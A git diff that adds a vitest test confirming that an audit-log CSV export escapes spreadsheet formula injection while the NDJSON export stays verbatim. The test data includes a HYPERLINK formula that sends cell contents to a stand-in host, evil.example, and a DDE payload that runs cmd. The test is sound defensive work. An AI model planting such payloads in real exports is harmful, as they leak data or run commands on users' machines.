@@ -3,6 +3,7 @@ import { sql } from "kysely";
 import { describe, expect, it } from "vitest";
 import { AUDIT_CSV_COLUMNS } from "../client-sdk/src/contract/index.js";
 import { createAuditLogsService } from "../server/audit/audit-logs.service.js";
+import { csvRecord } from "../server/audit/csv.js";
 import { pruneExpiredEntries } from "../server/audit/retention.js";
 import { addMember, call, createOrg, signup } from "./support/api.js";
 import { record } from "./support/sockets.js";
@@ -195,6 +196,47 @@ describe("audit log", () => {
       type: "audit.exported",
       data: { format: "ndjson", count: 9 },
     });
+  });
+
+  it("neutralises CSV cells that a spreadsheet would run as formulas, and keeps NDJSON verbatim", async () => {
+    // signup() names the user after the label and starts the email with it.
+    const owner = await signup(A(), "-owner");
+    const org = await createOrg(A(), owner.token);
+    const ops = await signup(A(), "+ops");
+    await addMember(A().db, org.id, ops.user.id, "owner");
+    const hyperlink = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")';
+    const dde = "@SUM(1+1)*cmd|' /C calc'!A0";
+    await call(A(), "PATCH", `/v1/orgs/${org.id}`, {
+      token: owner.token,
+      headers: { "user-agent": hyperlink, "x-request-id": "-req-1" },
+      body: { name: "one" },
+    });
+    await call(A(), "PATCH", `/v1/orgs/${org.id}`, {
+      token: ops.token,
+      headers: { "user-agent": dde },
+      body: { name: "two" },
+    });
+    const csv = await call(A(), "GET", `/v1/orgs/${org.id}/audit-logs/export?format=csv`, { token: owner.token });
+    const rows = parseCsv(csv.body, { relax_column_count: false }) as string[][];
+    const col = (name: (typeof AUDIT_CSV_COLUMNS)[number]) => AUDIT_CSV_COLUMNS.indexOf(name);
+    const [, created, byOwner, byOps] = rows as [string[], string[], string[], string[]];
+    expect(created[col("actorEmail")]).toBe(`'${owner.email}`);
+    expect(byOwner[col("userAgent")]).toBe(`'${hyperlink}`);
+    expect(byOwner[col("requestId")]).toBe("'-req-1");
+    expect(byOps[col("actorEmail")]).toBe(`'${ops.email}`);
+    expect(byOps[col("userAgent")]).toBe(`'${dde}`);
+    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    // Tab and CR cannot reach a cell through HTTP headers (they are trimmed); the writer covers them too.
+    expect(csvRecord(["\tcmd", "\rcmd", "-1", 7])).toBe(`'\tcmd,"'\rcmd",'-1,7\r\n`);
+
+    // NDJSON is data for programs, not a spreadsheet: the caller's text as it came.
+    const nd = await call(A(), "GET", `/v1/orgs/${org.id}/audit-logs/export?format=ndjson`, { token: owner.token });
+    const lines = (nd.body as string)
+      .trimEnd()
+      .split("\n")
+      .map((l) => JSON.parse(l));
+    expect(lines[1].context).toMatchObject({ userAgent: hyperlink, requestId: "-req-1" });
+    expect(lines[2].actor.email).toBe(ops.email);
   });
 
   it("verify is ok, then points at the row changed behind the API's back", async () => {
